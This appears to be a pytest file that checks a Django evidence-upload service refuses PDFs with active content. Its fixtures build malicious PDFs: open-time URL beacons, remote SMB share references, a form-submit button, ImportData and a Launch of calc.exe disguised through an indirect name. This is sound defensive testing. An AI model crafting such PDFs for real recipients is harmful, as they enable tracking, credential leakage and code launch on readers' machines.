"""PDFs that act on opening, send data or reach another file are refused, like scripts.

Issue 24: ``/OpenAction /URI``, ``/GoToR \\\\host\\share``, ``/SubmitForm`` and ``/Launch``
were accepted and reached the court bundle byte-identical. The choice made: refuse them (the
person is asked to « imprimer en PDF »), so that no filed copy can act when a volunteer, a
lawyer or a clerk opens it. A link a reader clicks to a web page stays accepted.
Every PDF here is built with pikepdf, as a producer writes one.
"""

import copy

import pikepdf
import pytest
from django.core.management.base import CommandError
from pikepdf import Array, Dictionary, Name, String

from creneau.cases.models import Case
from creneau.evidence.models import Upload
from creneau.evidence.uploads import UploadError, seal_upload
from tests.privacy.test_transfer import CASE, run, write_case
from tests.trust.test_pdf_uploads import build_pdf

pytestmark = pytest.mark.django_db


def link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))


def open_action_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://pisteur.example/ouvert"))


def open_action_goto_remote_share(pdf: pikepdf.Pdf) -> None:
    remote = Dictionary(
        S=Name.GoToR, F=String("\\\\10.0.0.5\\share\\x.pdf"), D=Array([0, Name.Fit])
    )
    pdf.Root.OpenAction = pdf.make_indirect(remote)


def submit_form_button(pdf: pikepdf.Pdf) -> None:
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://x.example")))
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Btn,
        T=String("envoyer"),
        Rect=Array([0, 0, 50, 20]),
        A=submit,
    )
    ref = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([ref])
    pdf.Root.AcroForm = Dictionary(Fields=Array([ref]))


def launch_through_an_indirect_name(pdf: pikepdf.Pdf) -> None:
    name = pdf.make_indirect(Name.Launch)
    pdf.Root.OpenAction = Dictionary(S=name, F=String("calc.exe"))


def goto_then_uri(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo,
        D=Array([page, Name.Fit]),
        Next=Dictionary(S=Name.URI, URI=String("https://t.example")),
    )


def link_to_a_windows_share(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.URI, URI=String("file://10.0.0.5/share/x")))


def import_data(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.ImportData, F=String("donnees.fdf")))


ACTING = {
    "OpenAction URI": open_action_uri,
    "OpenAction GoToR to a share": open_action_goto_remote_share,
    "SubmitForm button": submit_form_button,
    "Launch behind an indirect name": launch_through_an_indirect_name,
    "GoTo followed by a URI": goto_then_uri,
    "link to a file:// share": link_to_a_windows_share,
    "ImportData": import_data,
}


@pytest.mark.parametrize("kind", list(ACTING))
def test_a_pdf_that_acts_on_opening_or_reaches_out_is_refused(kind):
    with pytest.raises(UploadError, match="PDF refusé : il contient du contenu actif"):
        seal_upload(build_pdf(ACTING[kind]), "piece.pdf")
    assert not Upload.objects.exists()


def test_a_clicked_link_to_a_web_page_is_accepted_and_filed_as_received():
    data = build_pdf(
        lambda pdf: link(pdf, Dictionary(S=Name.URI, URI=String("https://www.service-public.fr/")))
    )

    result = seal_upload(data, "page.pdf")

    assert result.original_sha256 == result.filed_sha256


def test_case_import_refuses_an_attached_pdf_that_acts_on_opening(tmp_path):
    data = copy.deepcopy(CASE)
    data["attempts"][0]["files"] = ["captures/page.pdf"]
    path = write_case(tmp_path, data)
    (tmp_path / "captures" / "page.pdf").write_bytes(build_pdf(open_action_uri))

    with pytest.raises(CommandError, match="contenu actif"):
        run("import", str(path), "--json")
    assert not Case.objects.exists()
